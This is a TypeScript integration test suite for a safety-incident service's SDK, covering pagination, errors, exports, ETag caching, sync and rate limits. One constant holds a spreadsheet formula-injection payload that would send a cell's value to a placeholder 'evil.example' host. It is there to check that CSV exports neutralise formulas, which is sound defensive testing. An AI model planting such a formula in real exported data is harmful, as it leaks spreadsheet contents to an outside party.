import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import {
  AuthenticationError,
  type CachedAnswer,
  createClient,
  type CsvRecord,
  type Incident,
  NotFoundError,
  PermissionError,
  RateLimitError,
  type RecordType,
  SafetyApiError,
  type SafetyClient,
  type TypedRecord,
} from '../../packages/sdk/src/index.ts';
import { importFile } from '../../src/import/import.ts';
import { createTestContext, STORES, seedAccount, seedKey, type TestContext } from '../helpers.ts';
import { named, user } from '../records.ts';
import { account, gone, incident, minute, ndjson } from '../import/files.ts';
import { parseCsv } from '../strict-csv.ts';

/** The SDK against the real server, listening on a port (the SDK speaks HTTP through fetch). */

const SDK_VERSION = (
  JSON.parse(readFileSync(new URL('../../packages/sdk/package.json', import.meta.url), 'utf8')) as {
    version: string;
  }
).version;

const INCIDENTS = 7;

/** Text that spreadsheets would run as a formula, and text that CSV must quote. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const QUOTED = 'Spill, "wet" floor\nnear Dock 3 – Åsa 🚧';

/**
 * A record as a CSV export's row holds it: every field as text, null as empty, a text field that a
 * spreadsheet would take for a formula behind a `'` (src/lib/csv.ts).
 */
const csvRecord = (record: Record<string, unknown>): CsvRecord =>
  Object.fromEntries(
    Object.entries(record).map(([name, value]) => [
      name,
      value === null
        ? ''
        : typeof value === 'string' && /^[=+\-@\t\r]/.test(value)
          ? `'${value}`
          : String(value),
    ]),
  );

/** Rejects with a SafetyApiError, which it returns. */
async function apiError(call: Promise<unknown>): Promise<SafetyApiError> {
  const error = await call.catch((caught: unknown) => caught);
  assert.ok(error instanceof SafetyApiError, `a SafetyApiError, got ${String(error)}`);
  return error;
}

for (const store of STORES) {
  describe(`SDK against the server (${store})`, () => {
    let ctx: TestContext;
    let baseUrl: string;
    let client: SafetyClient;
    let rawKey: string;
    let accountId: string;
    const incidents: ReturnType<typeof incident>[] = [];
    const users: ReturnType<typeof user>[] = [];

    before(async () => {
      ctx = await createTestContext(store);
      await ctx.app.listen({ port: 0, host: '127.0.0.1' });
      baseUrl = `http://127.0.0.1:${(ctx.app.server.address() as AddressInfo).port}`;
      accountId = randomUUID();
      for (let i = 1; i <= INCIDENTS; i += 1) incidents.push(incident(accountId, i, minute(i)));
      // For the CSV export: a field that must be quoted, one guarded against formulas.
      Object.assign(incidents[0]!, { description: FORMULA });
      Object.assign(incidents[1]!, { description: QUOTED, location: 'Dock 3' });
      users.push(user(accountId, 'Ann'), user(accountId, 'Bob'), user(accountId, 'Cy'));
      await importFile(
        ctx.commandLineDb,
        ndjson([
          account(accountId, { rate_limit_per_hour: 10_000 }),
          named('department', accountId, 'Operations'),
          named('department', accountId, 'Logistics'),
          named('location', accountId, 'Warehouse North'),
          named('location', accountId, 'Dock 3'),
          ...users,
          ...incidents,
        ]),
      );
      ({ rawKey } = await seedKey(ctx.db, accountId));
      client = createClient({ baseUrl, apiKey: rawKey });
    });
    after(() => ctx.close());

    test('calls answer typed data with the rate-limit headers and the request id', async () => {
      const page = await client.listIncidents({ limit: 3 });
      assert.deepEqual(page.data.pagination, { page: 1, limit: 3, total: INCIDENTS, pages: 3 });
      assert.deepEqual(
        page.data.data.map((row) => row.incident_number),
        ['INC-2025-0007', 'INC-2025-0006', 'INC-2025-0005'],
      );
      assert.ok(page.rateLimit !== null);
      assert.equal(page.rateLimit.limit, 10_000);
      assert.ok(page.rateLimit.remaining < 10_000);
      assert.ok(page.rateLimit.reset !== null && page.rateLimit.reset > Date.now() / 1000);
      assert.match(page.requestId ?? '', /./);

      const one = await client.getIncident(incidents[0]!.id);
      assert.equal(one.data.incident_number, 'INC-2025-0001');
      assert.equal(one.data.severity_score, 6);
      assert.deepEqual(
        (await client.listUsers()).data.map((row) => row.name),
        ['Ann', 'Bob', 'Cy'],
      );
      assert.deepEqual(
        (await client.listDepartments()).data.map((row) => row.name),
        ['Logistics', 'Operations'],
      );
      assert.deepEqual(
        (await client.listLocations()).data.map((row) => row.name),
        ['Dock 3', 'Warehouse North'],
      );
      const head = await client.listChanges({ cursor: 'latest' });
      assert.deepEqual(head.data.data, []);
      assert.equal(head.data.has_more, false);
      assert.ok(head.rateLimit !== null);
    });

    test("errors carry the status, the contract's code, the message and the request id", async () => {
      const notFound = await apiError(client.getIncident(randomUUID()));
      assert.ok(notFound instanceof NotFoundError, notFound.name);
      assert.equal(notFound.name, 'NotFoundError');
      assert.equal(notFound.status, 404);
      assert.equal(notFound.code, null);
      assert.equal(notFound.message, 'Incident not found');
      assert.match(notFound.requestId ?? '', /./);

      const unknownKey = createClient({ baseUrl, apiKey: `svc_${'0'.repeat(40)}` });
      const invalid = await apiError(unknownKey.listUsers());
      assert.deepEqual([invalid.status, invalid.code], [401, 'API_KEY_INVALID']);
      assert.ok(invalid instanceof AuthenticationError, invalid.name);
      const refusedExport = await apiError(unknownKey.exportIncidents());
      assert.deepEqual([refusedExport.status, refusedExport.code], [401, 'API_KEY_INVALID']);
      const malformed = await apiError(createClient({ baseUrl, apiKey: 'not-a-key' }).listUsers());
      assert.deepEqual([malformed.status, malformed.code], [401, 'API_KEY_REQUIRED']);
      // A key made while the plan had API access, then the plan without it.
      const withoutPlan = randomUUID();
      await importFile(ctx.commandLineDb, ndjson([account(withoutPlan)]));
      const planless = createClient({ baseUrl, apiKey: (await seedKey(ctx.db, withoutPlan)).rawKey });
      await importFile(ctx.commandLineDb, ndjson([account(withoutPlan, { api_access: false })]));
      const refused = await apiError(planless.listUsers());
      assert.deepEqual([refused.status, refused.code], [403, 'FEATURE_NOT_AVAILABLE']);
      assert.ok(refused instanceof PermissionError, refused.name);
      const cursor = await apiError(client.listChanges({ cursor: 'garbled' }));
      assert.deepEqual([cursor.status, cursor.code], [400, 'INVALID_CURSOR']);
      assert.equal(cursor.constructor, SafetyApiError, 'a 400 has no class of its own');
    });

    test('the iterators visit every record once', async () => {
      const seen: Incident[] = [];
      for await (const row of client.incidents({ limit: 2 })) seen.push(row);
      assert.deepEqual(
        seen.map((row) => row.incident_number),
        incidents.map((row) => row.incident_number).reverse(),
      );
      const names = async (rows: AsyncIterable<{ name: string }>) => {
        const found: string[] = [];
        for await (const row of rows) found.push(row.name);
        return found;
      };
      assert.deepEqual(await names(client.users()), ['Ann', 'Bob', 'Cy']);
      assert.deepEqual(await names(client.departments()), ['Logistics', 'Operations']);
      assert.deepEqual(await names(client.locations()), ['Dock 3', 'Warehouse North']);

      const changed: string[] = [];
      let pages = 0;
      let last = true;
      for await (const page of client.changes({ limit: 3 })) {
        pages += 1;
        changed.push(...page.data.data.map((change) => change.id));
        last = page.data.has_more;
      }
      const records = INCIDENTS + users.length + 2 + 2;
      assert.equal(changed.length, records);
      assert.equal(new Set(changed).size, records);
      assert.equal(pages, Math.ceil(records / 3));
      assert.equal(last, false);
    });

    test('incidents() asks for the largest page unless told, and every request names the SDK, Node.js and the application', async () => {
      const asked: { url: string; userAgent: string | null }[] = [];
      const counting = createClient({
        baseUrl,
        apiKey: rawKey,
        appInfo: { name: 'nightly-sync', version: '2.1' },
        fetch: (request: Request) => {
          asked.push({ url: request.url, userAgent: request.headers.get('user-agent') });
          return fetch(request);
        },
      });
      const seen: string[] = [];
      for await (const row of counting.incidents()) seen.push(row.id);
      assert.equal(seen.length, INCIDENTS);
      assert.deepEqual(
        asked.map(({ url }) => new URL(url).search),
        ['?page=1&limit=200'],
      );
      assert.equal(
        asked[0]?.userAgent,
        `safety-incident-sdk/${SDK_VERSION} node/${process.versions.node} nightly-sync/2.1`,
      );
    });

    test('an export streams typed rows, in the list order, with the feed cursor', async () => {
      const exported = await client.exportIncidents();
      assert.match(exported.cursor, /./);
      assert.ok(exported.rateLimit !== null);
      const rows: Incident[] = [];
      for await (const row of exported) rows.push(row);
      assert.deepEqual(rows, (await client.listIncidents({ limit: 200 })).data.data);

      const exportedUsers = [];
      for await (const row of await client.exportUsers()) exportedUsers.push(row);
      assert.deepEqual(exportedUsers, (await client.listUsers()).data);

      // Leaving early, or never reading, releases the export; the client goes on.
      for await (const row of await client.exportIncidents()) {
        assert.equal(row.incident_number, 'INC-2025-0007');
        break;
      }
      await (await client.exportLocations()).cancel();
      assert.equal((await client.listDepartments()).data.length, 2);
    });

    test('a CSV export: rows as text records under the header row, in the list order', async () => {
      const listed = (await client.listIncidents({ limit: 200 })).data.data;
      const exported = await client.exportIncidents({ format: 'csv' });
      assert.match(exported.cursor, /./);
      const rows: CsvRecord[] = [];
      for await (const row of exported) rows.push(row);
      assert.deepEqual(rows, listed.map(csvRecord));
      assert.ok(rows.some((row) => row.description === `'${FORMULA}`));
      assert.ok(rows.some((row) => row.description === QUOTED && row.location === 'Dock 3'));
      await assert.rejects(async () => {
        for await (const row of exported) assert.fail(`a second pass yielded ${JSON.stringify(row)}`);
      }, /this export was read already/);

      const users: CsvRecord[] = [];
      for await (const row of await client.exportUsers({ format: 'csv' })) users.push(row);
      assert.deepEqual(users, (await client.listUsers()).data.map(csvRecord));
    });

    test('body: the bytes of an export, written to a file as they came, and then no rows', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'safety-sdk-export-'));
      try {
        const listed = (await client.listIncidents({ limit: 200 })).data.data;
        const csv = await client.exportIncidents({ format: 'csv' });
        await writeFile(join(dir, 'incidents.csv'), csv.body);
        // The file the service wrote (RFC 4180, CRLF), not a re-encoding of parsed rows.
        const [header, ...records] = parseCsv(readFileSync(join(dir, 'incidents.csv'), 'utf8'));
        assert.deepEqual(header, Object.keys(listed[0]!));
        assert.deepEqual(
          records.map((fields) => Object.fromEntries(header!.map((name, i) => [name, fields[i]]))),
          listed.map(csvRecord),
        );
        assert.throws(
          () => csv[Symbol.asyncIterator](),
          /this export is read as bytes \(its body was taken\)/,
        );

        const exported = await client.exportIncidents();
        await writeFile(join(dir, 'incidents.ndjson'), exported.body);
        const lines = readFileSync(join(dir, 'incidents.ndjson'), 'utf8').split('\n');
        assert.equal(lines.pop(), '', 'every line ends in LF');
        assert.deepEqual(
          lines.map((line) => JSON.parse(line)),
          listed,
        );

        // Rows first: the body is no longer whole.
        const iterated = await client.exportDepartments();
        for await (const row of iterated) assert.match(row.name, /./);
        assert.throws(() => iterated.body, /this export is being read as rows/);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });

    test('etagCache: a GET goes again with If-None-Match, and the 304 is answered from the cache', async () => {
      // An account of its own: the test changes its data.
      const own = randomUUID();
      const owned = [1, 2, 3].map((n) => incident(own, n, minute(n)));
      await importFile(ctx.commandLineDb, ndjson([account(own, { rate_limit_per_hour: 1000 }), ...owned]));
      const { rawKey: ownKey } = await seedKey(ctx.db, own);
      const exchanges: { path: string; ifNoneMatch: string | null; status: number; etag: string | null }[] =
        [];
      const cached = createClient({
        baseUrl,
        apiKey: ownKey,
        etagCache: true,
        fetch: async (request: Request) => {
          const response = await fetch(request);
          const { pathname, search } = new URL(request.url);
          exchanges.push({
            path: `${pathname}${search}`,
            ifNoneMatch: request.headers.get('if-none-match'),
            status: response.status,
            etag: response.headers.get('etag'),
          });
          return response;
        },
      });

      const first = await cached.listIncidents({ limit: 2 });
      const again = await cached.listIncidents({ limit: 2 });
      assert.deepEqual(again.data, first.data);
      assert.deepEqual(
        exchanges.map(({ status }) => status),
        [200, 304],
      );
      assert.match(exchanges[0]!.etag ?? '', /^"/);
      assert.equal(exchanges[1]!.ifNoneMatch, exchanges[0]!.etag);
      // The 304's own headers: not counted against the allowance, with its own request id.
      assert.ok(first.rateLimit !== null && again.rateLimit !== null);
      assert.equal(again.rateLimit.remaining, first.rateLimit.remaining);
      assert.notEqual(again.requestId, first.requestId);
      assert.match(again.requestId ?? '', /./);

      // Another URL is another answer; each is kept.
      await cached.listIncidents({ limit: 2, page: 2 });
      // The same parameters in another order: the same answer.
      await cached.listIncidents({ page: 2, limit: 2 });
      const one = await cached.getIncident(owned[0]!.id);
      assert.deepEqual((await cached.getIncident(owned[0]!.id)).data, one.data);
      assert.deepEqual(
        exchanges.slice(2).map(({ path, ifNoneMatch, status }) => [path, ifNoneMatch !== null, status]),
        [
          ['/api/v1/public/incidents?limit=2&page=2', false, 200],
          ['/api/v1/public/incidents?page=2&limit=2', true, 304],
          [`/api/v1/public/incidents/${owned[0]!.id}`, false, 200],
          [`/api/v1/public/incidents/${owned[0]!.id}`, true, 304],
        ],
      );

      // Changed on the service: a 200 with the new data, which replaces the kept one.
      await importFile(
        ctx.commandLineDb,
        ndjson([{ ...owned[2]!, status: 'closed', updated_at: minute(50) }]),
      );
      exchanges.length = 0;
      const changed = await cached.listIncidents({ limit: 2 });
      assert.equal(changed.data.data[0]?.status, 'closed');
      assert.deepEqual((await cached.listIncidents({ limit: 2 })).data, changed.data);
      assert.deepEqual(
        exchanges.map(({ ifNoneMatch, status }) => [ifNoneMatch !== null, status]),
        [
          [true, 200],
          [true, 304],
        ],
      );

      // Without the option, no If-None-Match: every read is a 200.
      const seen: (string | null)[] = [];
      const plain = createClient({
        baseUrl,
        apiKey: ownKey,
        fetch: (request: Request) => {
          seen.push(request.headers.get('if-none-match'));
          return fetch(request);
        },
      });
      await plain.listUsers();
      await plain.listUsers();
      assert.deepEqual(seen, [null, null]);
    });

    test('etagCache: an EtagCache of your own is asked by URL, and a 304 answers with the body it keeps', async () => {
      const kept = new Map<string, CachedAnswer>();
      const cache = {
        get: async (url: string) => kept.get(url),
        set: async (url: string, answer: CachedAnswer) => {
          kept.set(url, answer);
        },
      };
      const cached = createClient({ baseUrl, apiKey: rawKey, etagCache: cache });
      const { data } = await cached.listLocations();
      const url = `${baseUrl}/api/v1/public/locations`;
      const answer = kept.get(url);
      assert.ok(answer !== undefined, `kept under ${url}: ${[...kept.keys()].join(', ')}`);
      assert.deepEqual(JSON.parse(answer.body).data, data);
      // The service's ETag still matches, so the body comes from the cache: what it holds, it gets.
      kept.set(url, {
        etag: answer.etag,
        body: JSON.stringify({ error: false, data: [{ ...data[0], name: 'Kept copy' }] }),
      });
      assert.deepEqual(
        (await cached.listLocations()).data.map((row) => row.name),
        ['Kept copy'],
      );
      // Changes and exports are not cached: the feed has no ETag, an export is a stream.
      await cached.listChanges({ cursor: 'latest' });
      await (await cached.exportLocations()).cancel();
      assert.deepEqual([...kept.keys()], [url]);
    });

    test('sync: the export then the feed, a cursor saved after each step, later changes and deletions', async () => {
      const copy = new Map<string, TypedRecord['object']>();
      const deleted: { type: RecordType; id: string }[] = [];
      const saved: string[] = [];
      let records = 0;
      const handlers = {
        onRecord: ({ type, object }: TypedRecord) => {
          records += 1;
          copy.set(`${type}:${object.id}`, object);
        },
        onDelete: (deletion: { type: RecordType; id: string }) => {
          deleted.push(deletion);
          copy.delete(`${deletion.type}:${deletion.id}`);
        },
        saveCursor: (cursor: string) => {
          saved.push(cursor);
        },
      };

      const first = await client.sync(handlers);
      const total = INCIDENTS + users.length + 2 + 2;
      assert.equal(copy.size, total);
      // Nothing changed since the exports: the feed after them holds nothing to replay.
      assert.equal(records, total);
      assert.deepEqual(deleted, []);
      assert.ok(saved.length >= 2, 'after the exports and after the feed');
      assert.equal(saved.at(-1), first);

      // Later: an incident changes, another is deleted, a user is deactivated.
      const [changedIncident, deletedIncident] = [incidents[2]!, incidents[3]!];
      await importFile(
        ctx.commandLineDb,
        ndjson([
          { ...changedIncident, status: 'closed', updated_at: minute(100) },
          gone('incident', deletedIncident.id, accountId),
          gone('user', users[1]!.id, accountId),
        ]),
      );
      records = 0;
      saved.length = 0;
      const second = await client.sync({ cursor: first, ...handlers });
      assert.equal(records, 1);
      const current = (await client.getIncident(changedIncident.id)).data;
      assert.equal(current.status, 'closed');
      assert.deepEqual(copy.get(`incident:${changedIncident.id}`), current);
      assert.deepEqual(
        deleted.map(({ type, id }) => `${type}:${id}`).sort(),
        [`incident:${deletedIncident.id}`, `user:${users[1]!.id}`].sort(),
      );
      assert.equal(copy.size, total - 2);
      assert.deepEqual(saved, [second]);

      // Resuming from the saved cursor with nothing new hands over nothing.
      records = 0;
      deleted.length = 0;
      await client.sync({ cursor: second, ...handlers });
      assert.equal(records, 0);
      assert.deepEqual(deleted, []);
    });

    test("the server's own 429: reported with its code and Retry-After at once, not waited for", async () => {
      const limited = await seedAccount(ctx.db, { rate_limit_per_hour: 2 });
      const { rawKey } = await seedKey(ctx.db, limited);
      const small = createClient({ baseUrl, apiKey: rawKey });
      await small.listUsers();
      await small.listUsers();
      const started = performance.now();
      const error = await apiError(small.listUsers());
      assert.ok(performance.now() - started < 5000);
      assert.deepEqual([error.status, error.code], [429, 'RATE_LIMIT_EXCEEDED']);
      assert.ok(error instanceof RateLimitError, error.name);
      assert.ok(error.retryAfter !== null && error.retryAfter > 60, `Retry-After ${error.retryAfter}`);
      assert.deepEqual(error.rateLimit, { limit: 2, remaining: 0, reset: null });
    });
  });
}

describe('SDK construction', () => {
  test('a baseUrl that is not an origin is refused at once, saying what is expected', () => {
    const cases: [unknown, RegExp][] = [
      [
        'localhost:8080',
        /must be the service's origin, e\.g\. https:\/\/safety\.example\.com: http:\/\/ or https:\/\//,
      ],
      ['safety.example.com', /must be the service's origin.*\(got "safety\.example\.com"\)/],
      [undefined, /must be the service's origin.*\(got undefined\)/],
      ['https://safety.example.com/api/v1/public', /without a path or query: the SDK adds \/api\/v1\/public/],
      ['https://safety.example.com?x=1', /without a path or query/],
    ];
    for (const [baseUrl, message] of cases) {
      assert.throws(
        () => createClient({ baseUrl: baseUrl as string, apiKey: 'svc_x' }),
        (error: Error) => error instanceof TypeError && message.test(error.message),
        String(baseUrl),
      );
    }
    for (const baseUrl of [
      'https://safety.example.com',
      'https://safety.example.com/',
      'http://127.0.0.1:8080',
    ])
      assert.doesNotThrow(() => createClient({ baseUrl, apiKey: 'svc_x' }), baseUrl);
    assert.throws(
      () => createClient({ baseUrl: 'https://x.example', apiKey: 'svc_x', appInfo: { name: 'my app' } }),
      /appInfo: name and version must be single words/,
    );
  });
});
